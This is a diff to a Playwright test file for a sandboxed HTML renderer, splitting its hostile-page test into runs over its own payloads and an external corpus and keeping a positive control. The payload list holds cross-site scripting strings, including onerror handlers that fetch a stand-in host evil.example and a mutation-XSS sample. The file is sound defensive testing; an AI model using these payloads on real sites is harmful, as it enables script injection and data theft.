@@ -12,7 +12,7 @@ const corpus = path.resolve(root, '../shared/corpora/hostile/html-payloads.json'
 const folder = process.env.FRAME_OUT_DIR ?? path.join(root, 'dist/renderer');
 const built = (name: string) => readFileSync(path.join(folder, name), 'utf8');
 
-/** Pieces of hostile HTML of our own, each with the trick it tries; those of the corpus join them where it is there. */
+/** Pieces of hostile HTML of our own, each with the trick it tries. */
 const OWN_PAYLOADS: readonly string[] = [
   '<script>window.top.postMessage("hit","*");parent.hit?.()</script>',
   '<img src=x onerror="fetch(`https://evil.example/onerror`)">',
@@ -27,10 +27,10 @@ const OWN_PAYLOADS: readonly string[] = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.example/mutation onerror=alert(1)&gt;">',
 ];
 
-function listPayloads(): readonly string[] {
-  if (!existsSync(corpus)) return OWN_PAYLOADS;
-  const outside = JSON.parse(readFileSync(corpus, 'utf8')) as readonly { payload: string }[];
-  return [...OWN_PAYLOADS, ...outside.map(({ payload }) => payload)];
+/** The hostile pages of the corpus that may lie beside the project. */
+function readCorpus(): readonly string[] {
+  const entries = JSON.parse(readFileSync(corpus, 'utf8')) as readonly { payload: string }[];
+  return entries.map(({ payload }) => payload);
 }
 
 let browser: Browser;
@@ -123,25 +123,33 @@ test('a page is taken apart in the frame under the policy that the app serves', 
   await page.close();
 });
 
-test('nothing in a hostile page runs, loads or navigates; the same pages do in a document that is shown', async () => {
-  test.setTimeout(180_000);
-  const payloads = listPayloads();
-  const { page, requests } = await openWindow();
-  let read = 0;
-  for (let start = 0; start < payloads.length; start += 10) {
-    const some = payloads.slice(start, start + 10);
-    for (const html of [story(some.join('\n')), ...(start === 0 ? some : [])]) {
-      const reply = extractionReplySchema.parse(JSON.parse((await extract(page, html)) ?? 'null'));
-      if (reply.status === 'read') read++;
-      expect(JSON.stringify(reply)).not.toMatch(/"target":"(?!https?:)/);
+for (const { whose, list } of [
+  { whose: 'our own', list: () => OWN_PAYLOADS },
+  { whose: 'the corpus', list: readCorpus },
+]) {
+  test(`nothing in a hostile page of ${whose} runs, loads or navigates`, async () => {
+    test.skip(list === readCorpus && !existsSync(corpus), 'the corpus is not beside the project');
+    test.setTimeout(180_000);
+    const payloads = list();
+    const { page, requests } = await openWindow();
+    let read = 0;
+    for (let start = 0; start < payloads.length; start += 10) {
+      const some = payloads.slice(start, start + 10);
+      for (const html of [story(some.join('\n')), ...(start === 0 ? some : [])]) {
+        const reply = extractionReplySchema.parse(JSON.parse((await extract(page, html)) ?? 'null'));
+        if (reply.status === 'read') read++;
+        expect(JSON.stringify(reply)).not.toMatch(/"target":"(?!https?:)/);
+      }
     }
-  }
-  await page.waitForTimeout(300);
-  expect(read).toBeGreaterThan(payloads.length / 20);
-  expect(requests).toEqual([]);
-  expect(page.url()).toBe(`${ORIGIN}/`);
-  await page.close();
+    await page.waitForTimeout(300);
+    expect(read).toBeGreaterThan(payloads.length / 20);
+    expect(requests).toEqual([]);
+    expect(page.url()).toBe(`${ORIGIN}/`);
+    await page.close();
+  });
+}
 
+test('the same hostile pages do run in a document that is shown', async () => {
   const control = await browser.newPage();
   let hits = 0;
   control.on('dialog', (dialog) => {
@@ -154,7 +162,7 @@ test('nothing in a hostile page runs, loads or navigates; the same pages do in a
   });
   for (const payload of OWN_PAYLOADS) await control.setContent(story(payload), { waitUntil: 'commit' }).catch(() => {});
   await control.waitForTimeout(300);
-  expect(hits, 'the positive control: without it this test proves nothing').toBeGreaterThan(5);
+  expect(hits, 'the positive control: without it the tests above prove nothing').toBeGreaterThan(5);
   await control.close();
 });
 
